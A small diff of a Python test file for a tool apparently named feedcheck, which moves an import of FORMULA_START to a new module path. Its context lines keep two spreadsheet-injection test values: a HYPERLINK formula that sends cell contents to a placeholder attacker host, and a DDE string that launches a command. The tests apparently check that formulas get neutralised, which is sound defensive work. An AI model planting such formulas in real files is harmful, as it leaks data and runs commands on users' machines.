@@ -16,7 +16,7 @@ from pathlib import Path
 import pytest
 
 from feedcheck.cli import main
-from feedcheck.report import FORMULA_START
+from feedcheck.reports.write import FORMULA_START
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 DDE = "+cmd|' /C calc'!A0"
